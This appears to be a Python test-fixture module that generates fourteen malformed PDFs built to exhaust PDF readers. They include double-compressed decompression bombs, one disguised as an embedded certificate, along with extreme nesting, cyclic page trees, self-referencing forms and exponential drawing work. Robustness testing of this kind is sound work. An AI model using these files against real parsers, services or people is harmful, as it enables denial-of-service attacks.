"""PDFs made to hurt their reader: each function is named after what it tries."""

import zlib
from collections.abc import Callable
from functools import cache

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>"
PAGES = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
EMPTY = b"<</Length 0>>\nstream\n\nendstream"
MEBIBYTE = 1024 * 1024


def pdf(changed: dict[int, bytes], *, trailer: bytes = b"") -> bytes:
    """A one-page PDF with these objects in place of its own."""
    bodies = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: PAGES, 3: PAGE, 4: EMPTY, 5: EMPTY, **changed}
    parts, lines, place = [b"%PDF-1.7\n"], [b"xref\n0 1\n0000000000 65535 f \n"], 9
    for number, body in bodies.items():
        parts.append(b"%d 0 obj\n%b\nendobj\n" % (number, body))
        lines.append(b"%d 1\n%010d 00000 n \n" % (number, place))
        place += len(parts[-1])
    end = b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (max(bodies) + 1, trailer, place)
    return b"".join((*parts, *lines, end))


@cache
def packed(piece: bytes, times: int, entries: bytes = b"") -> bytes:
    """A stream that unpacks to `times` pieces; packed twice, so that it is small."""
    packer = zlib.compressobj(1)
    once = b"".join(packer.compress(piece) for _ in range(times)) + packer.flush()
    twice = zlib.compress(once, 9)
    filters = b"/Filter[/FlateDecode/FlateDecode]/Length %d" % len(twice)
    return b"<<%b%b>>\nstream\n%b\nendstream" % (entries, filters, twice)


def deep_nesting() -> bytes:
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R/A " + b"[" * 200_000 + b"]" * 200_000 + b">>"})


def deep_dictionaries() -> bytes:
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R" + b"/A<<" * 100_000 + b">>" * 100_000 + b">>"})


def a_bomb_as_page() -> bytes:
    return pdf({4: packed(b" " * MEBIBYTE, 1024)})


def a_bomb_as_attachment() -> bytes:
    names = b"/Names<</EmbeddedFiles<</Names[(certificate.json)<</EF<</F 4 0 R>>>>]>>>>"
    form = b"/AcroForm<</Fields[6 0 R]/SigFlags 3>>"
    signature = b"<</FT/Sig/T(S)/V<</Type/Sig/Contents<3000>/ByteRange[0 1 2 3]>>>>"
    return pdf(
        {1: b"<</Type/Catalog/Pages 2 0 R" + names + form + b">>", 4: packed(b" " * MEBIBYTE, 1024), 6: signature}
    )


def a_page_of_350_kilometres() -> bytes:
    return pdf({3: PAGE.replace(b"595 842", b"1000000000 1000000000")})


def a_page_without_size() -> bytes:
    return pdf({3: PAGE.replace(b"0 0 595 842", b"0 0 0 0")})


def revisions_in_a_circle() -> bytes:
    data = pdf({}, trailer=b"/Prev 0000000000")
    own = data[data.rindex(b"startxref\n") + 10 : -7]
    return data.replace(b"/Prev 0000000000", b"/Prev %b" % own.rjust(10, b"0"))


def fifty_thousand_objects() -> bytes:
    return pdf({number: b"<</Next %d 0 R>>" % (number + 1) for number in range(6, 50_006)})


def a_giant_picture() -> bytes:
    picture = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    return pdf(
        {4: b"<</Length 25>>\nstream\n500 0 0 500 0 0 cm /X Do\nendstream", 5: packed(b"\0" * MEBIBYTE, 900, picture)}
    )


def a_page_that_is_its_own_parent() -> bytes:
    return pdf({2: b"<</Type/Pages/Count 1/Kids[2 0 R]/Parent 2 0 R>>"})


def two_page_trees_that_hold_each_other() -> bytes:
    return pdf({2: b"<</Type/Pages/Count 9/Kids[3 0 R 3 0 R]>>", 3: b"<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>"})


def a_form_that_draws_itself() -> bytes:
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>/Length 12>>"
    return pdf(
        {
            4: b"<</Length 5>>\nstream\n/X Do\nendstream",
            5: form + b"\nstream\n/X Do /X Do \nendstream",
        }
    )


def two_billion_pages() -> bytes:
    return pdf({2: b"<</Type/Pages/Count 2000000000/Kids[3 0 R]>>"})


def a_billion_forms() -> bytes:
    """Each form draws the next one ten times, ten deep: hours of work in two kilobytes."""
    draw = b"/X Do " * 10
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>/Length %d>>"
    forms = {number: form % (number + 1, len(draw)) + b"\nstream\n" + draw + b"\nendstream" for number in range(5, 15)}
    return pdf({**forms, 4: b"<</Length 5>>\nstream\n/X Do\nendstream", 15: EMPTY})


FILES: tuple[Callable[[], bytes], ...] = (
    deep_nesting,
    deep_dictionaries,
    a_bomb_as_page,
    a_bomb_as_attachment,
    a_page_of_350_kilometres,
    a_page_without_size,
    revisions_in_a_circle,
    fifty_thousand_objects,
    a_giant_picture,
    a_page_that_is_its_own_parent,
    two_page_trees_that_hold_each_other,
    a_form_that_draws_itself,
    two_billion_pages,
    a_billion_forms,
)
